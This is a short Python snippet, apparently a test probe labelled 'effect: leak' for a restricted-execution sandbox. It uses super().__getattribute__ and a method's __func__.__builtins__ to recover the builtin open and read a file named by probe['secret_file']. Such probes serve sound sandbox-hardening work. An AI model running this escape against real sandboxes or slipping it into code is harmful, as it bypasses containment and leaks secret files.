# effect: leak
class Base:
    def method(self):
        return 0


class Child(Base):
    def look(self, name):
        return super().__getattribute__(name)


def attempt(probe):
    function = Child().look("method").__func__
    return function.__builtins__["open"](probe["secret_file"]).read()
